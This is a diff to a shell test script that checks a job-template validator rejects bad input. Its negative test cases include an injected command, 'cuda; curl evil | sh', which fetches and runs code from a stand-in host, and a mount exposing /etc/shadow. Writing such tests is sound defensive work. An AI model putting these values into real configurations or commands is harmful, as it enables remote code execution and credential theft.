@@ -346,7 +346,8 @@ api_post_ctl() {
     bad '{name: x, modules: ["cuda; curl evil | sh"]}' 'templates[0].modules[0]'
     bad '{name: x, classes: [nosuch]}' 'templates[0].classes[0]'
     bad '{name: x, owner: "user:mallory"}' 'templates[0].owner'
-    bad '{name: x, image: "docker://evil"}' 'templates[0].image'
+    bad '{name: x, image: "http://evil"}' 'templates[0].image'
+    bad '{name: x, image: "oci-layout:/i", mounts: ["/etc/shadow:/proc/x"]}' 'templates[0].mounts[0]'
     bad '{name: x, setup: ""}' 'templates[0].setup'
     run -0 "$DOCKET" templates --json
     [ "$(jq '.templates | length' <<<"$output")" = 10 ]
